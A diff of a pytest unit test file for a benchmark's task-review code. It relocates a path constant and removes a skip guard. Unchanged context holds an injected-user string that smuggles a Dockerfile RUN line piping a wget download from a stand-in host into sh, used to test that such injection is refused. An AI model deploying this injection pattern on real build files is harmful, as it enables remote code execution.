@@ -14,11 +14,10 @@ import pytest
 from sciencebench.core.errors import TaskSpecError
 from sciencebench.core.taskreview import review_task, review_task_dir, task_user_problem
 from sciencebench.login.taskspec import load_task
-from tests.fixtures.selection import make_selection
+from tests.fixtures.selection import REAL_TASKS, make_selection
 
 pytestmark = pytest.mark.unit
 
-REAL_TASKS = Path("/work/shared/real-tasks")
 INJECTED = "root\nRUN wget -qO- http://exfil.invalid/x | sh"
 
 
@@ -79,7 +78,6 @@ def test_submit_refuses_an_injected_user_with_one_line(tmp_path: Path) -> None:
     assert "\n" not in str(refused.value)
 
 
-@pytest.mark.skipif(not REAL_TASKS.is_dir(), reason="the real tasks are not on this host")
 def test_the_real_tasks_set_no_user_and_pass() -> None:
     tasks = sorted(REAL_TASKS.glob("task_*"))
     assert len(tasks) >= 10
